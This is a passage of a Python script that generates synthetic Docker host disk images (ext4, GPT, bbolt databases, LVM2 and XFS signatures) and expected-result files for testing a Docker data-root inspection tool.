    write_expect("unsupported-driver", exp)


@case
def needs_recovery():
    t, h = good_host("needs-recovery")
    img = build(t, "needs-recovery")
    subprocess.run(["debugfs", "-w", "-R", "feature needs_recovery", img],
                   env=dict(os.environ, E2FSPROGS_FAKE_TIME=str(FS_NOW)),
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
    with open(img, "rb") as f:
        f.seek(1024 + 0x60)
        inc = struct.unpack("<I", f.read(4))[0]
    assert inc & 0x4, "needs_recovery not set"
    exp = std_expect(h, 1, warn=["journal"], merged_for=())
    exp["tests"] = "superblock has INCOMPAT_RECOVER (0x4, needs_recovery): dof must say the journal was not replayed (may be older than what the host saw); everything else as good"
    exp["needs_recovery"] = True
    write_expect("needs-recovery", exp)


def network_kv(h):
    """libnetwork local-kv.db content: bucket libnetwork, values = 8-byte
    LE index + JSON (endpoint_count: bare integer)."""
    idx = [0]

    def v(obj):
        idx[0] += 1
        return struct.pack("<Q", idx[0]) + (obj if isinstance(obj, bytes) else jdump(obj))
    kv = {}
    nets = [("bridge", "bridge", "172.17.0.0/16", "172.17.0.1"),
            ("none", "null", None, None), ("host", "host", None, None),
            ("appnet", "bridge", "172.20.0.0/16", "172.20.0.1")]
    info = []
    for name, drv, sub, gw in nets:
        nid = hexid(h.seed + "net-" + name)
        ipam = jdump([{"PreferredPool": sub, "SubPool": "", "Gateway": gw,
                       "AuxAddresses": None}]).decode() if sub else ""
        doc = {"name": name, "id": nid, "created": rfc(ts("2023-05-01T09:00:00"), 42),
               "networkType": drv, "scope": "local", "ipamType": "default",
               "addrSpace": "LocalDefault", "enableIPv6": False, "internal": False,
               "attachable": False, "inDelete": False, "ingress": False,
               "generic": {"com.docker.network.enable_ipv6": False,
                           "com.docker.network.generic": {}},
               "persist": True, "postIPv6": False, "labels": {}}
        if sub:
            doc["ipamV4Config"] = ipam
            doc["ipamV4Info"] = jdump([{"IPAMData": jdump({"AddressSpace": "LocalDefault",
                                                            "Gateway": gw + "/16", "Pool": sub}).decode(),
                                        "PoolID": jdump({"AddressSpace": "LocalDefault",
                                                         "Subnet": sub}).decode()}]).decode()
        kv["docker/network/v1.0/network/%s/" % nid] = v(doc)
        kv["docker/network/v1.0/endpoint_count/%s/" % nid] = v(b"1" if name == "bridge" else b"0")
        info.append({"name": name, "id": nid, "driver": drv, "subnet": sub})
    nid = hexid(h.seed + "net-bridge")
    eid = hexid(h.seed + "epweb")
    kv["docker/network/v1.0/endpoint/%s/%s/" % (nid, eid)] = v({
        "name": "web", "id": eid, "sandbox": hexid(h.seed + "sbweb"),
        "ep_iface": {"mac": "02:42:ac:11:00:02", "addr": "172.17.0.2/16",
                     "dstPrefix": "eth", "srcName": "veth1234567", "routes": [], "v4PoolID": "LocalDefault/172.17.0.0/16"},
        "exposed_ports": [{"Proto": 6, "Port": 8080}], "generic": {},
        "anonymous": False, "disableResolution": False, "myAliases": None,
        "svcName": "", "svcID": "", "virtualIP": "<nil>", "loadBalancer": False})
    return kv, info


@case
def bbolt_dbs():
    vols = {}
    names = ["webdata"] + ["vol%03d" % i for i in range(300)] + \
        [hexid("anon-vol-%d" % i) for i in range(3)]
    for n in names:
        opts = None
        if n == "vol007":
            opts = {"type": "nfs", "o": "addr=198.51.100.10,rw,nfsvers=4", "device": ":/exports/data"}
        if n == "vol008":
            opts = {"type": "cifs", "o": "username=svc,password=S3cret!,vers=3.0", "device": "//198.51.100.11/share"}
        vols[n] = jdump({"Name": n, "Driver": "local", "Labels": {"com.example.n": n} if n == "vol001" else None,
                         "Options": opts})

    def extra(h, t):
        os.makedirs(os.path.join(t.stage, b(h.root + "/network/files")), exist_ok=True)
        bbolt.write_db(os.path.join(t.stage, b(h.root + "/volumes/metadata.db")), {"volumes": vols})
        kv, info = network_kv(h)
        bbolt.write_db(os.path.join(t.stage, b(h.root + "/network/files/local-kv.db")), {"libnetwork": kv})
        t.mtimes[b(h.root + "/volumes/metadata.db")] = ts("2023-05-02T08:00:01")
        t.mtimes[b(h.root + "/network/files/local-kv.db")] = ts("2023-05-02T09:00:03")
        h._nets = info
        for n in ("vol007", "vol008"):
            h.add_volume(n, [])
            t.file(h.root + "/volumes/%s/opts.json" % n, jdump(
                {"MountType": json.loads(vols[n])["Options"]["type"],
                 "MountOpts": json.loads(vols[n])["Options"]["o"],
                 "MountDevice": json.loads(vols[n])["Options"]["device"], "Quota": {"Size": 0}}),
                mode=0o600)
    t, h = good_host("bbolt", extra=extra)
    build(t, "bbolt")
    exp = std_expect(h, 0, merged_for=())
    exp["tests"] = "real bbolt files: volumes/metadata.db (304 keys: several leaf pages under a branch page) and network/files/local-kv.db (inline bucket)"
    exp["volumes_in_metadata_db"] = len(names)
    exp["volume_samples"] = {n: json.loads(vols[n]) for n in ("webdata", "vol001", "vol007", "vol008")}
    exp["volumes_missing_data_dir_min"] = 300
    exp["networks"] = h._nets
    exp["endpoints"] = [{"network": "bridge", "name": "web", "ip": "172.17.0.2/16", "mac": "02:42:ac:11:00:02"}]
    exp["bbolt_page_size"] = 4096
    exp["metadata_db_has_branch_page"] = True
    write_expect("bbolt", exp)


@case
def dataroot_moved_gpt():
    # p1: host root with /etc/docker/daemon.json moving the data root
    t1 = Tree(stage("dataroot-p1"))
    t1.file("etc/docker/daemon.json", jdump({"data-root": "/srv/docker",
                                             "storage-driver": "overlay2",
                                             "log-driver": "json-file"}) + b"\n")
    t1.file("etc/fstab", b"UUID=d0f5d0f5-0000-4000-8000-0000000000p2 /srv/docker ext4 defaults 0 2\n"
            .replace(b"p2", b"02"))
    t1.file("etc/hostname", b"synthhost\n")
    t1.file("etc/os-release", b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n')
    t1.file("etc/group", b"root:x:0:\ndocker:x:998:alice\n")
    t1.dir("srv/docker")
    t1.dir("var/lib/docker")  # empty: the default root is not used
    t1.file("home/alice/.bash_history", b"sudo systemctl restart docker\ndocker ps\n")
    p1 = os.path.join(OUT, ".p1.raw")
    t1.build(p1, 16, uuid="d0f5d0f5-0000-4000-8000-000000000001")
    shutil.rmtree(t1.stage)
    # p2: the data root itself
    t2 = Tree(stage("dataroot-p2"))
    h = DockerHost(t2, root="", seed="moved", tarsplit=False, host_root="/srv/docker")
    l0 = h.add_layer(L0_OPS)
    img = h.add_image(l0, ["local/base:1"])
    h.add_container("moved1", img, "exited", [("file", "root/x", b"x\n")])
    h.add_container("moved2", img, "running", [])
    h.finish()
    p2 = os.path.join(OUT, ".p2.raw")
    t2.build(p2, 24, uuid="d0f5d0f5-0000-4000-8000-000000000002")
    shutil.rmtree(t2.stage)
    disk = os.path.join(OUT, "dataroot-moved-gpt.raw")
    if os.path.exists(disk):
        os.unlink(disk)
    with open(disk, "wb") as f:
        f.truncate(80 << 20)
    subprocess.run(["sgdisk", "-o", "-U", "D0F5D0F5-AAAA-4000-8000-000000000000",
                    "-n", "1:2048:+16M", "-t", "1:8300", "-c", "1:hostroot",
                    "-u", "1:D0F5D0F5-AAAA-4000-8000-000000000001",
                    "-n", "2:0:+24M", "-t", "2:8300", "-c", "2:dockerdata",
                    "-u", "2:D0F5D0F5-AAAA-4000-8000-000000000002",
                    "-n", "3:0:+8M", "-t", "3:8e00", "-c", "3:lvmpv",
                    "-u", "3:D0F5D0F5-AAAA-4000-8000-000000000003",
                    "-n", "4:0:+16M", "-t", "4:8300", "-c", "4:xfsdata",
                    "-u", "4:D0F5D0F5-AAAA-4000-8000-000000000004", disk],
                   check=True, stdout=subprocess.DEVNULL)
    out = subprocess.run(["sgdisk", "-p", disk], check=True, stdout=subprocess.PIPE).stdout.decode()
    starts = {}
    for line in out.splitlines():
        parts = line.split()
        if len(parts) > 3 and parts[0].isdigit():
            starts[int(parts[0])] = int(parts[1]) * 512
    with open(disk, "r+b") as d:
        for n, src in ((1, p1), (2, p2)):
            with open(src, "rb") as s:
                d.seek(starts[n])
                while True:
                    chunk = s.read(1 << 20)
                    if not chunk:
                        break
                    if chunk.count(0) == len(chunk):
                        d.seek(len(chunk), 1)
                    else:
                        d.write(chunk)
        # p3: LVM2 PV label at sector 1
        lab = bytearray(512)
        lab[0:8] = b"LABELONE"
        struct.pack_into("<Q", lab, 8, 1)
        struct.pack_into("<I", lab, 20, 32)
        lab[24:32] = b"LVM2 001"
        lab[32:64] = b"d0f5SynthPVuuid0000000000000000a"
        struct.pack_into("<Q", lab, 64, 8 << 20)
        crc = ~zlib.crc32(bytes(lab[20:]), ~0xf597a6cf & 0xffffffff) & 0xffffffff
        struct.pack_into("<I", lab, 16, crc)
        d.seek(starts[3] + 512)
        d.write(lab)
        # p4: XFS superblock magic
        sb = bytearray(512)
        sb[0:4] = b"XFSB"
        struct.pack_into(">I", sb, 4, 4096)
        struct.pack_into(">Q", sb, 8, 4096)
        d.seek(starts[4])
        d.write(sb)
    os.unlink(p1)
    os.unlink(p2)
    write_expect("dataroot-moved-gpt", {
        "format": "raw", "hand_built": False, "exit_code": 1,
        "tests": "GPT disk: p1 host root whose /etc/docker/daemon.json says data-root /srv/docker; p2 is that data root (its root dir); p3 LVM2 PV label, p4 XFS: both reported unsupported by offset and signature",
        "partition_offsets_bytes": starts,
        "data_roots": [{"volume_offset_bytes": starts[2], "path": "/",
                        "host_path": "/srv/docker"}],
        "daemon_json": {"volume_offset_bytes": starts[1], "path": "/etc/docker/daemon.json",
                        "data-root": "/srv/docker"},
        "storage_driver": "overlay2",
        "containers_listed": ["moved1", "moved2"],
        "containers": [cinfo(c) for c in h.containers],
        "unsupported_volumes": [{"volume_offset_bytes": starts[3], "signature": "LVM2"},
                                {"volume_offset_bytes": starts[4], "signature": "XFS"}],
        "warnings_must_mention": ["LVM2", "XFS", str(starts[3]), str(starts[4])],
    })


@case
def dataroot_symlink():
    # /var/lib/docker is a symlink to /data/docker (a data root moved by
    # hand, the way many hosts do it): the engine's recorded paths still
    # say /var/lib/docker and resolve through the link.
    t = Tree(stage("dataroot-symlink"))
    h = DockerHost(t, root="data/docker", seed="symlink", tarsplit=False,
                   host_root="/var/lib/docker")
    t.dir("var/lib")
    t.symlink("var/lib/docker", "/data/docker")
    l0 = h.add_layer(L0_OPS)
    img = h.add_image(l0, ["local/base:1"])
    h.add_volume("linked", [("file", "note.txt", b"through the link\n")])
    h.add_container("linked1", img, "running", [("file", "root/x", b"x\n")],
                    mounts={"/srv/data": {"Type": "volume", "Name": "linked"}})
    h.add_container("linked2", img, "exited", [], exit_code=0)
    h.finish()
    build(t, "dataroot-symlink", size=24)
    exp = std_expect(h, merged_for=())
    exp["tests"] = "/var/lib/docker is a symlink to /data/docker: the store is found through the link, once, with its containers and volume"
    exp["data_roots"] = [{"volume_offset_bytes": 0, "path": "/var/lib/docker"}]
    exp["store_path"] = "/var/lib/docker"
    write_expect("dataroot-symlink", exp)


def main():
    global OUT
    if len(sys.argv) < 2:
        print("usage: make_synth.py OUTDIR [CASE...]", file=sys.stderr)
        sys.exit(2)
    OUT = os.path.abspath(sys.argv[1])
    os.makedirs(OUT, exist_ok=True)
    want = sys.argv[2:] or list(CASES)
    t0 = time.time()
    for name in want:
        if name not in CASES:
            print("unknown case %s; known: %s" % (name, " ".join(CASES)), file=sys.stderr)
            sys.exit(2)
        t1 = time.time()
        CASES[name]()
        print("%-32s %.2fs" % (name, time.time() - t1), file=sys.stderr)
    print("all done in %.1fs" % (time.time() - t0), file=sys.stderr)


if __name__ == "__main__":
    main()
